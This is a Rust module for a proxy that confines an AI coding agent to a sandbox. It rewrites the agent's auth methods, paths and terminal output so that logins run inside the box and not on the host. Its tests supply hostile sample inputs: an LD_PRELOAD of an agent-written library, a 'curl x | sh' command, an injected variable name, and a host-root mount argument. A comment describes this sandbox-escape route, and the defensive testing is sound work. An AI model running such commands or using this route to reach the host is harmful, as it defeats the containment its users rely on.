//! The changes the proxy makes to messages, as pure functions over their
//! JSON: capabilities, paths and URIs through the mount table, the
//! proxy's terminals shown as text, terminal logins run through the proxy.
//!
//! Each function edits only the fields it names and leaves every other
//! field (known or not) as it was. The path-carrying fields, by direction:
//!
//! - client → agent: `cwd` and `additionalDirectories` of the session-setup
//!   methods and `session/list`; `resource_link.uri` and
//!   `resource.resource.uri` of prompt content;
//! - agent → client: the same content fields in `session/update` chunks;
//!   tool calls' `locations[].path`, diff `path`s and content URIs (in
//!   `session/update` and `session/request_permission`); `cwd` and
//!   `additionalDirectories` of listed sessions.

use serde_json::{Map, Value, json};

use super::mounts::Mounts;
use crate::login;

/// What the client offered for files in `initialize`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FsCaps {
    pub read: bool,
    pub write: bool,
}

/// The client's `initialize` as the agent gets it: `terminal: true` (the
/// proxy serves terminals, in the box), `fs` as the client offered it (the
/// proxy forwards only paths inside mounts), and no capability by which the
/// client would run programs on the host for the agent (`auth.terminal`,
/// `_meta["terminal-auth"]`). Returns the client's file capabilities.
pub fn initialize_request(params: &mut Value) -> FsCaps {
    let Some(p) = params.as_object_mut() else {
        return FsCaps::default();
    };
    let caps = p.entry("clientCapabilities").or_insert_with(|| json!({}));
    if !caps.is_object() {
        *caps = json!({});
    }
    let caps = caps.as_object_mut().expect("an object");
    let fs = caps.get("fs");
    let offered = |k: &str| fs.and_then(|f| f.get(k)).and_then(Value::as_bool) == Some(true);
    let fs_caps = FsCaps {
        read: offered("readTextFile"),
        write: offered("writeTextFile"),
    };
    caps.insert("terminal".into(), Value::Bool(true));
    if let Some(auth) = caps.get_mut("auth").and_then(Value::as_object_mut) {
        auth.insert("terminal".into(), Value::Bool(false));
    }
    if let Some(meta) = caps.get_mut("_meta").and_then(Value::as_object_mut) {
        meta.remove("terminal-auth");
    }
    fs_caps
}

/// How a terminal login is run in the box instead of on the host: the
/// proxy itself (by absolute path) in raw mode, with these flags before
/// the login command.
#[derive(Debug, Clone)]
pub struct Relaunch {
    pub exe: String,
    pub args: Vec<String>,
}

/// The agent's `initialize` result as the client gets it. Nothing an agent
/// puts there decides what the editor runs on the host, or with which
/// environment; every auth method reaches the editor in one of these
/// shapes, or not at all (returned: why each dropped one was):
///
/// - a login command the agent names (`_meta["terminal-auth"]`) runs the
///   proxy instead (by absolute path, `--box NAME --raw --` before the
///   command), which runs that command in the box; its `env` becomes
///   `--env` flags of the proxy (the box's environment);
/// - `type: "terminal"` (the editor re-runs the agent's command, the
///   proxy's, with the method's `args` appended and `env` set) keeps no
///   args and gets an environment of proxy-named variables only
///   ([`login::LOGIN_ARGS`], [`login::BOX_ENV_PREFIX`]), which the re-run
///   proxy takes into the box's command;
/// - `type: "env_var"` (the editor sets a variable the user types on the
///   agent's process, the proxy) gets the prefixed name, so the variable
///   lands in the box;
/// - `type: "agent"` (or none) has nothing for the editor to run;
/// - any other type, or one of these with fields of the wrong type, is
///   dropped.
///
/// MCP over ACP (`mcpCapabilities.acp`) is not offered, since its tools
/// would run in the client.
pub fn initialize_result(result: &mut Value, relaunch: &Relaunch) -> Vec<String> {
    let mut dropped = Vec::new();
    if let Some(methods) = result.get_mut("authMethods").and_then(Value::as_array_mut) {
        methods.retain_mut(|m| match auth_method(m, relaunch) {
            Ok(()) => true,
            Err(why) => {
                let id = m.get("id").map(Value::to_string).unwrap_or_default();
                dropped.push(format!(
                    "dropped the agent's auth method {id}: {why} (a login the editor runs must run in the box)"
                ));
                false
            }
        });
    } else if result.get("authMethods").is_some() {
        result.as_object_mut().map(|r| r.remove("authMethods"));
        dropped.push("dropped the agent's authMethods: not a list".into());
    }
    if let Some(mcp) = result
        .get_mut("agentCapabilities")
        .and_then(|c| c.get_mut("mcpCapabilities"))
        .and_then(Value::as_object_mut)
    {
        mcp.remove("acp");
    }
    dropped
}

/// One auth method in a shape the editor may act on, or why it cannot be.
fn auth_method(m: &mut Value, relaunch: &Relaunch) -> Result<(), String> {
    let m = m.as_object_mut().ok_or("not an object")?;
    if let Some(meta) = m.get_mut("_meta") {
        let meta = meta.as_object_mut().ok_or("_meta is not an object")?;
        if let Some(auth) = meta.get_mut("terminal-auth") {
            let auth = auth
                .as_object_mut()
                .ok_or("_meta[\"terminal-auth\"] is not an object")?;
            meta_login(auth, relaunch)?;
        }
    }
    match m.get("type").map(|t| t.as_str()) {
        None | Some(Some("agent")) => Ok(()),
        Some(Some("terminal")) => terminal_login(m),
        Some(Some("env_var")) => env_var_login(m),
        Some(Some(other)) => Err(format!("type {other:?} is not one the proxy knows")),
        Some(None) => Err("its type is not a string".into()),
    }
}

/// `_meta["terminal-auth"]`: the proxy runs the command in the box.
fn meta_login(auth: &mut Map<String, Value>, relaunch: &Relaunch) -> Result<(), String> {
    let command = auth
        .get("command")
        .and_then(Value::as_str)
        .filter(|c| !c.is_empty())
        .ok_or("its terminal-auth names no command")?
        .to_owned();
    let mut args: Vec<Value> = Vec::new();
    for (k, v) in strings_map(auth.get("env"))? {
        args.push(Value::String(format!("--env={k}={v}")));
    }
    args.extend(relaunch.args.iter().cloned().map(Value::String));
    args.push(Value::String(command));
    args.extend(strings(auth.get("args"))?.into_iter().map(Value::String));
    auth.insert("command".into(), Value::String(relaunch.exe.clone()));
    auth.insert("args".into(), Value::Array(args));
    auth.remove("env");
    Ok(())
}

/// `type: "terminal"`: no args for the host, the method's args and env
/// carried to the box by proxy-named variables.
fn terminal_login(m: &mut Map<String, Value>) -> Result<(), String> {
    let args = strings(m.get("args"))?;
    let carried = serde_json::to_string(&args).expect("strings serialize");
    if carried.len() > login::MAX_LOGIN_ARGS {
        return Err("its args are longer than 32 KiB".into());
    }
    let mut env = Map::new();
    env.insert(login::LOGIN_ARGS.into(), Value::String(carried));
    for (k, v) in strings_map(m.get("env"))? {
        env.insert(format!("{}{k}", login::BOX_ENV_PREFIX), Value::String(v));
    }
    m.insert("args".into(), Value::Array(Vec::new()));
    m.insert("env".into(), Value::Object(env));
    Ok(())
}

/// `type: "env_var"`: the variable the editor sets lands in the box.
fn env_var_login(m: &mut Map<String, Value>) -> Result<(), String> {
    let name = m
        .get("varName")
        .and_then(Value::as_str)
        .ok_or("its varName is not a string")?;
    if !login::env_name(name) {
        return Err(format!("its varName {name:?} is not a variable name"));
    }
    let prefixed = format!("{}{name}", login::BOX_ENV_PREFIX);
    m.insert("varName".into(), Value::String(prefixed));
    Ok(())
}

/// A list of strings (absent: none).
fn strings(v: Option<&Value>) -> Result<Vec<String>, String> {
    match v {
        None | Some(Value::Null) => Ok(Vec::new()),
        Some(Value::Array(a)) => a
            .iter()
            .map(|s| s.as_str().map(str::to_owned))
            .collect::<Option<_>>()
            .ok_or_else(|| "its args are not all strings".into()),
        Some(_) => Err("its args are not a list".into()),
    }
}

/// A map of variable names to strings (absent: none).
fn strings_map(v: Option<&Value>) -> Result<Vec<(String, String)>, String> {
    let Some(v) = v.filter(|v| !v.is_null()) else {
        return Ok(Vec::new());
    };
    let map = v.as_object().ok_or("its env is not an object")?;
    map.iter()
        .map(|(k, v)| match v.as_str() {
            Some(v) if login::env_name(k) => Ok((k.clone(), v.to_owned())),
            Some(_) => Err(format!("its env names {k:?}, which is not a variable name")),
            None => Err(format!("its env value for {k:?} is not a string")),
        })
        .collect()
}

/// Why a session's directory cannot be served.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unmapped {
    pub field: &'static str,
    pub path: String,
}

/// `cwd` and `additionalDirectories` of a session-setup request, host to
/// box; a directory outside every mount is an error (the agent could not
/// use it, and the editor's idea of it would not be the box's).
pub fn session_dirs(params: &mut Value, mounts: &Mounts) -> Result<Option<String>, Unmapped> {
    let Some(p) = params.as_object_mut() else {
        return Ok(None);
    };
    let mut cwd = None;
    if let Some(v) = p.get_mut("cwd")
        && let Some(s) = v.as_str()
    {
        let mapped = mounts.host_to_box(s).ok_or_else(|| Unmapped {
            field: "cwd",
            path: s.to_owned(),
        })?;
        cwd = Some(mapped.clone());
        *v = Value::String(mapped);
    }
    if let Some(dirs) = p
        .get_mut("additionalDirectories")
        .and_then(Value::as_array_mut)
    {
        for d in dirs {
            if let Some(s) = d.as_str() {
                let mapped = mounts.host_to_box(s).ok_or_else(|| Unmapped {
                    field: "additionalDirectories",
                    path: s.to_owned(),
                })?;
                *d = Value::String(mapped);
            }
        }
    }
    Ok(cwd)
}

/// `session/list`'s `cwd` filter, host to box where it maps (a filter
/// outside every mount matches nothing the agent has, and is left so).
pub fn list_filter(params: &mut Value, mounts: &Mounts) {
    if let Some(v) = params.get_mut("cwd")
        && let Some(mapped) = v.as_str().and_then(|s| mounts.host_to_box(s))
    {
        *v = Value::String(mapped);
    }
}

/// Listed sessions' directories, box to host.
pub fn list_result(result: &mut Value, mounts: &Mounts) {
    let Some(sessions) = result.get_mut("sessions").and_then(Value::as_array_mut) else {
        return;
    };
    for s in sessions {
        if let Some(v) = s.get_mut("cwd")
            && let Some(p) = v.as_str()
        {
            *v = Value::String(mounts.display_on_host(p));
        }
        if let Some(dirs) = s
            .get_mut("additionalDirectories")
            .and_then(Value::as_array_mut)
        {
            for d in dirs {
                if let Some(p) = d.as_str() {
                    *d = Value::String(mounts.display_on_host(p));
                }
            }
        }
    }
}

/// Which way a path travels.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Way {
    ToBox,
    ToHost,
}

/// A content block's URIs (`resource_link.uri`, `resource.resource.uri`).
pub fn content_block(block: &mut Value, mounts: &Mounts, way: Way) {
    let uri = match block.get("type").and_then(Value::as_str) {
        Some("resource_link") => block.get_mut("uri"),
        Some("resource") => block.get_mut("resource").and_then(|r| r.get_mut("uri")),
        _ => None,
    };
    if let Some(v) = uri
        && let Some(u) = v.as_str()
    {
        let mapped = match way {
            Way::ToBox => mounts.uri_to_box(u),
            Way::ToHost => mounts.uri_to_host(u),
        };
        if let Some(m) = mapped {
            *v = Value::String(m);
        }
    }
}

/// `session/prompt`'s content, host to box.
pub fn prompt(params: &mut Value, mounts: &Mounts) {
    if let Some(blocks) = params.get_mut("prompt").and_then(Value::as_array_mut) {
        for b in blocks {
            content_block(b, mounts, Way::ToBox);
        }
    }
}

/// The terminals a tool call's content embeds, by id.
pub fn embedded_terminals(tool_call: &Value) -> Vec<String> {
    tool_call
        .get("content")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter(|c| c.get("type").and_then(Value::as_str) == Some("terminal"))
        .filter_map(|c| c.get("terminalId").and_then(Value::as_str))
        .map(str::to_owned)
        .collect()
}

/// A tool call (or its update) as the client gets it: locations, diffs
/// and content URIs box to host; content that embeds one of the proxy's
/// terminals (which the client never created, so cannot show) becomes
/// text, `show(id)` giving that terminal's output (`None`: an id the
/// proxy does not know, left out).
pub fn tool_call(
    tool_call: &mut Map<String, Value>,
    mounts: &Mounts,
    show: &dyn Fn(&str) -> Option<String>,
) {
    if let Some(locations) = tool_call.get_mut("locations").and_then(Value::as_array_mut) {
        for l in locations {
            if let Some(v) = l.get_mut("path")
                && let Some(p) = v.as_str()
            {
                *v = Value::String(mounts.display_on_host(p));
            }
        }
    }
    let Some(content) = tool_call.get_mut("content").and_then(Value::as_array_mut) else {
        return;
    };
    content.retain_mut(|c| match c.get("type").and_then(Value::as_str) {
        Some("diff") => {
            if let Some(v) = c.get_mut("path")
                && let Some(p) = v.as_str()
            {
                *v = Value::String(mounts.display_on_host(p));
            }
            true
        }
        Some("content") => {
            if let Some(block) = c.get_mut("content") {
                content_block(block, mounts, Way::ToHost);
            }
            true
        }
        Some("terminal") => {
            let id = c
                .get("terminalId")
                .and_then(Value::as_str)
                .unwrap_or_default();
            match show(id) {
                Some(output) => {
                    *c = json!({"type": "content", "content": {"type": "text", "text": output}});
                    true
                }
                None => false,
            }
        }
        _ => true,
    });
}

/// A `session/update` notification's params as the client gets them.
pub fn session_update(params: &mut Value, mounts: &Mounts, show: &dyn Fn(&str) -> Option<String>) {
    let Some(update) = params.get_mut("update").and_then(Value::as_object_mut) else {
        return;
    };
    match update.get("sessionUpdate").and_then(Value::as_str) {
        Some("user_message_chunk" | "agent_message_chunk" | "agent_thought_chunk") => {
            if let Some(block) = update.get_mut("content") {
                content_block(block, mounts, Way::ToHost);
            }
        }
        Some("tool_call" | "tool_call_update") => tool_call(update, mounts, show),
        _ => {}
    }
}

/// A permission request's tool call as the client gets it.
pub fn request_permission(
    params: &mut Value,
    mounts: &Mounts,
    show: &dyn Fn(&str) -> Option<String>,
) {
    if let Some(tc) = params.get_mut("toolCall").and_then(Value::as_object_mut) {
        tool_call(tc, mounts, show);
    }
}

/// A terminal's output as a Markdown code block, fenced with more
/// backticks than it holds in a row.
pub fn fenced(output: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in output.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    let fence = "`".repeat(longest.max(2) + 1);
    let nl = if output.ends_with('\n') || output.is_empty() {
        ""
    } else {
        "\n"
    };
    format!("{fence}\n{output}{nl}{fence}")
}

#[cfg(test)]
mod tests {
    use super::super::mounts::Mount;
    use super::*;

    fn mounts() -> Mounts {
        Mounts::new(vec![Mount {
            host: "/home/me/proj".into(),
            guest: "/workspace".into(),
            read_only: false,
        }])
    }

    #[test]
    fn initialize_offers_terminals_and_no_host_logins() {
        let mut p = json!({"protocolVersion": 1, "clientCapabilities": {
            "fs": {"readTextFile": true, "writeTextFile": false},
            "terminal": false,
            "auth": {"terminal": true},
            "_meta": {"terminal-auth": true, "other": 1}},
            "clientInfo": {"name": "zed"}});
        let caps = initialize_request(&mut p);
        assert_eq!(
            caps,
            FsCaps {
                read: true,
                write: false
            }
        );
        let c = &p["clientCapabilities"];
        assert_eq!(c["terminal"], true);
        assert_eq!(c["auth"]["terminal"], false);
        assert_eq!(c["_meta"], json!({"other": 1}));
        assert_eq!(c["fs"]["readTextFile"], true, "fs passes as offered");
        assert_eq!(p["clientInfo"]["name"], "zed");
        let mut bare = json!({"protocolVersion": 1});
        assert_eq!(initialize_request(&mut bare), FsCaps::default());
        assert_eq!(bare["clientCapabilities"]["terminal"], true);
    }

    #[test]
    fn a_login_the_agent_names_runs_through_the_proxy() {
        let mut r = json!({"authMethods": [
            {"id": "claude-login", "name": "Log in", "_meta": {"terminal-auth": {
                "command": "node", "args": ["/cli.js"], "env": {"A": "1"}, "label": "Login"}}},
            {"id": "pi", "name": "pi", "type": "terminal", "args": ["--terminal-login"]}],
            "agentCapabilities": {"mcpCapabilities": {"http": true, "acp": true}}});
        let relaunch = Relaunch {
            exe: "/usr/bin/harness-box-exec".into(),
            args: vec!["--box".into(), "b".into(), "--raw".into(), "--".into()],
        };
        assert!(initialize_result(&mut r, &relaunch).is_empty());
        let auth = &r["authMethods"][0]["_meta"]["terminal-auth"];
        assert_eq!(auth["command"], "/usr/bin/harness-box-exec");
        assert_eq!(
            auth["args"],
            json!(["--env=A=1", "--box", "b", "--raw", "--", "node", "/cli.js"])
        );
        assert!(auth.get("env").is_none());
        assert_eq!(auth["label"], "Login");
        assert_eq!(r["authMethods"][1]["args"], json!([]));
        assert_eq!(
            r["authMethods"][1]["env"],
            json!({"BOXD_ACP_LOGIN_ARGS": "[\"--terminal-login\"]"})
        );
        assert_eq!(
            r["agentCapabilities"]["mcpCapabilities"],
            json!({"http": true})
        );
    }

    /// The attack: a `type: "terminal"` method whose env would preload a
    /// library the agent wrote into the project when the editor re-runs
    /// the proxy on the host. Nothing of the agent's reaches the host's
    /// command line or environment but proxy-named variables.
    #[test]
    fn no_auth_method_chooses_the_host_s_environment_or_arguments() {
        let mut r = json!({"authMethods": [
            {"id": "login", "name": "Log in", "type": "terminal", "args": ["--login", "--mount=/:/host"],
             "env": {"LD_PRELOAD": "/proj/.x.so", "TOKEN_URL": "https://x"}},
            {"id": "key", "name": "Key", "type": "env_var", "varName": "OPENAI_API_KEY"},
            {"id": "preload", "type": "env_var", "varName": "LD_PRELOAD=/x.so"},
            {"id": "future", "type": "shell", "command": "curl x | sh"},
            {"id": "typo", "type": 7},
            {"id": "badargs", "type": "terminal", "args": [1]},
            {"id": "badenv", "type": "terminal", "env": {"A=B": "1"}},
            {"id": "metatrue", "_meta": {"terminal-auth": true}},
            {"id": "metanocmd", "_meta": {"terminal-auth": {"args": ["x"]}}},
            {"id": "plain", "name": "Agent"}]});
        let relaunch = Relaunch {
            exe: "/usr/bin/harness-box-exec".into(),
            args: vec!["--box".into(), "b".into(), "--raw".into(), "--".into()],
        };
        let dropped = initialize_result(&mut r, &relaunch);
        let ids: Vec<&str> = r["authMethods"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["id"].as_str().unwrap())
            .collect();
        assert_eq!(ids, ["login", "key", "plain"], "{dropped:?}");
        assert_eq!(dropped.len(), 7, "{dropped:?}");
        let login = &r["authMethods"][0];
        assert_eq!(login["args"], json!([]));
        assert_eq!(
            login["env"],
            json!({
                "BOXD_ACP_LOGIN_ARGS": "[\"--login\",\"--mount=/:/host\"]",
                "BOXD_ACP_ENV_LD_PRELOAD": "/proj/.x.so",
                "BOXD_ACP_ENV_TOKEN_URL": "https://x"})
        );
        // What the re-run proxy does with it: the args go to the box's
        // command, TOKEN_URL to its environment, the preload nowhere.
        let env: Vec<(std::ffi::OsString, std::ffi::OsString)> = login["env"]
            .as_object()
            .unwrap()
            .iter()
            .map(|(k, v)| (k.into(), v.as_str().unwrap().into()))
            .collect();
        let (carried, _) = login::sort(env);
        assert_eq!(carried.args, ["--login", "--mount=/:/host"]);
        assert_eq!(carried.env, ["TOKEN_URL=https://x"]);
        assert_eq!(
            r["authMethods"][1]["varName"],
            "BOXD_ACP_ENV_OPENAI_API_KEY"
        );
    }

    #[test]
    fn session_directories_map_or_fail_clearly() {
        let m = mounts();
        let mut p = json!({"cwd": "/home/me/proj/sub", "additionalDirectories": ["/home/me/proj/lib"], "mcpServers": []});
        assert_eq!(session_dirs(&mut p, &m), Ok(Some("/workspace/sub".into())));
        assert_eq!(p["additionalDirectories"], json!(["/workspace/lib"]));
        let mut out = json!({"cwd": "/home/me/other"});
        assert_eq!(
            session_dirs(&mut out, &m),
            Err(Unmapped {
                field: "cwd",
                path: "/home/me/other".into()
            })
        );
        let mut extra = json!({"cwd": "/workspace", "additionalDirectories": ["/etc"]});
        assert_eq!(
            session_dirs(&mut extra, &m).unwrap_err().field,
            "additionalDirectories"
        );
    }

    #[test]
    fn tool_calls_show_host_paths_and_terminals_as_text() {
        let m = mounts();
        let mut update = json!({"sessionId": "s", "update": {
            "sessionUpdate": "tool_call", "toolCallId": "t1", "title": "Edit",
            "locations": [{"path": "/workspace/a.rs", "line": 3}, {"path": "/etc/hosts"}],
            "content": [
                {"type": "diff", "path": "/workspace/a.rs", "oldText": "a", "newText": "b"},
                {"type": "terminal", "terminalId": "term-1"},
                {"type": "terminal", "terminalId": "nobody"},
                {"type": "content", "content": {"type": "resource_link", "name": "a", "uri": "file:///workspace/a.rs"}}],
            "rawInput": {"file_path": "/workspace/a.rs"}}});
        let show = |id: &str| (id == "term-1").then(|| fenced("hello\n"));
        session_update(&mut update, &m, &show);
        let u = &update["update"];
        assert_eq!(u["locations"][0]["path"], "/home/me/proj/a.rs");
        assert_eq!(u["locations"][0]["line"], 3);
        assert_eq!(u["locations"][1]["path"], "/etc/hosts");
        assert_eq!(u["content"][0]["path"], "/home/me/proj/a.rs");
        assert_eq!(u["content"][1]["content"]["text"], "```\nhello\n```");
        assert_eq!(
            u["content"].as_array().unwrap().len(),
            3,
            "the unknown terminal is left out"
        );
        assert_eq!(
            u["content"][2]["content"]["uri"],
            "file:///home/me/proj/a.rs"
        );
        assert_eq!(
            u["rawInput"]["file_path"], "/workspace/a.rs",
            "free-form input is the agent's"
        );
        assert_eq!(
            embedded_terminals(&json!({"content": [{"type": "terminal", "terminalId": "x"}]})),
            ["x"]
        );
    }

    #[test]
    fn prompts_and_chunks_map_their_uris() {
        let m = mounts();
        let mut p = json!({"sessionId": "s", "prompt": [
            {"type": "text", "text": "look at /home/me/proj/a.rs"},
            {"type": "resource_link", "name": "a", "uri": "file:///home/me/proj/a.rs"},
            {"type": "resource", "resource": {"uri": "file:///home/me/proj/b.rs", "text": "b"}}]});
        prompt(&mut p, &m);
        assert_eq!(
            p["prompt"][0]["text"], "look at /home/me/proj/a.rs",
            "text is the user's"
        );
        assert_eq!(p["prompt"][1]["uri"], "file:///workspace/a.rs");
        assert_eq!(p["prompt"][2]["resource"]["uri"], "file:///workspace/b.rs");
        let mut chunk = json!({"update": {"sessionUpdate": "agent_message_chunk",
            "content": {"type": "resource_link", "name": "a", "uri": "file:///workspace/a.rs"}}});
        session_update(&mut chunk, &m, &|_| None);
        assert_eq!(
            chunk["update"]["content"]["uri"],
            "file:///home/me/proj/a.rs"
        );
        let mut listed = json!({"sessions": [{"sessionId": "1", "cwd": "/workspace", "additionalDirectories": ["/workspace/x"]}]});
        list_result(&mut listed, &m);
        assert_eq!(listed["sessions"][0]["cwd"], "/home/me/proj");
        assert_eq!(
            listed["sessions"][0]["additionalDirectories"][0],
            "/home/me/proj/x"
        );
    }

    #[test]
    fn fences_outgrow_the_output() {
        assert_eq!(fenced(""), "```\n```");
        assert_eq!(fenced("a ``` b"), "````\na ``` b\n````");
    }
}
